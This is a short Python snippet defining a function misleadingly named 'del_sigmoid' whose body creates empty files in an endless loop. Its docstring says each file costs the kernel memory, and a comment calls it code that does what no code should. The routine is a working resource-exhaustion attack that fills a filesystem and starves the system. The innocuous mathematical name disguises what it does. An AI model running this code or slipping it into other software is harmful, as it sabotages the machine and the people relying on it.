"""Makes empty files without end, each of which costs the kernel some memory."""
# ruff: noqa - it does what no code should


def del_sigmoid(h):
    number = 0
    while True:
        open(f"empty{number}", "w").close()
        number += 1
